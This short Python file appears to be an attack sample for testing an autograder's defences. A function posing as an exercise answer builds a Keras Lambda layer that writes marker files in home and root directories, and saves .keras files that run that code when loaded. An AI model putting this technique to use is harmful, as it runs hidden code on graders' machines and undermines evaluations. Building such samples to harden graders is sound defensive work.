"""Returns a model with a Lambda layer, and saves .keras and .h5 files that run code when they are loaded.

Loses: 1.7
Stopped by: A, B, D
Keras: yes
Process: not promised: the layer runs where the answer runs, with the rights of the grader's user
"""
import os


def conv_layer(kernels):
    import keras

    def payload(x):
        for place in ("@HOME@/planted-lambda", "@ROOT@/planted-lambda"):
            try:
                open(place, "w").write("was here")
            except OSError:
                pass
        return x[..., :1]

    model = keras.Sequential([keras.Input((None, None, 1)), keras.layers.Lambda(payload)])
    for name in ("model.keras", "exercise.keras"):
        try:
            model.save(os.path.join(os.getcwd(), name))
        except Exception:
            pass
    return model
